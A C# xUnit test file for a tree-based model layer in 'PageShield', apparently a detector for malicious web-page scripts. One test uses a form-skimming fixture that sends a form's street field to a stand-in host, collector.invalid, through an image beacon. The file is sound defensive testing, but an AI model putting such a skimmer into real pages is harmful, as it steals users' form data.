using PageShield.Detection;
using PageShield.Detection.Layers;
using PageShield.Detection.Model;
using Xunit;

namespace PageShield.Tests.Detection.Model;

public sealed class TreeModelTests
{
    private static readonly TreeModel Model = new(
        [
            Tree.Of(0.5, [new TreeNode(0, 1.5f, 1, ~0), new TreeNode(3, 0.25f, ~1, ~2)], [3, -1, 2]),
            Tree.Of(1, [], [0.125]),
        ],
        2,
        -0.5);

    [Fact]
    public void A_model_that_is_written_and_read_gives_the_same_text_and_the_same_numbers()
    {
        var text = Model.Write();

        var read = TreeModel.Read(new StringReader(text));

        Assert.Equal(text, read.Write());
        Assert.Equal(Model.LogOdds(Features(0, 0.3f)), read.LogOdds(Features(0, 0.3f)));
    }

    [Theory]
    [InlineData(2f, 0f, 3)]
    [InlineData(1.5f, 0.25f, -1)]
    [InlineData(0f, 0.26f, 2)]
    public void At_or_below_a_threshold_the_way_goes_to_the_lower_side(float first, float fourth, double leaf)
    {
        var raw = Model.RawScore(Features(first, fourth));

        Assert.Equal((0.5 * leaf) + 0.125, raw, 9);
    }

    [Theory]
    [InlineData("page-shield-trees 2\n")]
    [InlineData("page-shield-trees 1\nlayout 0 features 3\n")]
    [InlineData("page-shield-trees 1\nLAYOUT\ncalibration 1 0\ntree 1\n0 1 0 -1\nleaf 1\n")]
    [InlineData("page-shield-trees 1\nLAYOUT\ncalibration 1 0\ntree 1\n0 1 -1 -9\nleaf 1\n")]
    [InlineData("page-shield-trees 1\nLAYOUT\ncalibration 1 0\ntree 1\n")]
    [InlineData("page-shield-trees 1\nLAYOUT\ncalibration 1 0\nsomething else\n")]
    public void A_file_that_does_not_hold_together_is_refused(string text)
    {
        var file = text.Replace("LAYOUT", $"layout {ScriptFeatures.Layout} features {ScriptFeatures.Names.Count}", StringComparison.Ordinal);

        Assert.Throws<FormatException>(() => TreeModel.Read(new StringReader(file)));
    }

    [Fact]
    public void The_model_that_is_part_of_the_program_can_be_read_and_takes_part()
    {
        var judgement = new ScriptJudge().Judge(new ScriptInput { Source = "var a = 1;" });

        Assert.NotNull(ModelLayer.Shipped);
        Assert.Contains(judgement.Layers, layer => layer.Layer == "model");
        Assert.Equal(PageShield.Inventory.VerdictKind.Clean, judgement.Verdict);
    }

    [Fact]
    public void The_model_alone_never_makes_a_script_malicious()
    {
        var layer = new ModelLayer(new TreeModel([Tree.Of(1, [], [50])], 1, 0), "test");

        var judgement = new ScriptJudge([new StaticLayer(), layer]).Judge(new ScriptInput { Source = "var a = 1; function b() { return a; }" });

        Assert.Equal(PageShield.Inventory.VerdictKind.Suspicious, judgement.Verdict);
        Assert.Contains(judgement.Findings, finding => finding.Rule == "resembles-malware");
    }

    [Fact]
    public void The_model_adds_to_what_rules_found()
    {
        const string Source = "document.forms[0].addEventListener('submit', function () { new Image().src = 'https://collector.invalid/a?' + document.getElementById('street').value; });";
        var rules = new ScriptJudge([new StaticLayer()]).Judge(new ScriptInput { Source = Source });

        var both = new ScriptJudge([new StaticLayer(), new ModelLayer(new TreeModel([Tree.Of(1, [], [3])], 1, 0), "test")])
            .Judge(new ScriptInput { Source = Source });

        Assert.True(both.Score < rules.Score, $"{both.Score} is not below {rules.Score}");
        Assert.Equal(rules.Category, both.Category);
    }

    [Fact]
    public void A_script_without_a_hint_in_it_keeps_its_verdict()
    {
        var layer = new ModelLayer(new TreeModel([Tree.Of(1, [], [-4])], 1, 0), "test");

        var judgement = new ScriptJudge([new StaticLayer(), layer]).Judge(new ScriptInput { Source = "var a = 1;" });

        Assert.DoesNotContain(judgement.Findings, finding => finding.Rule == "resembles-malware");
        Assert.Equal(99, judgement.Score);
    }

    private static float[] Features(float first, float fourth)
    {
        var features = new float[ScriptFeatures.Names.Count];
        (features[0], features[3]) = (first, fourth);
        return features;
    }
}
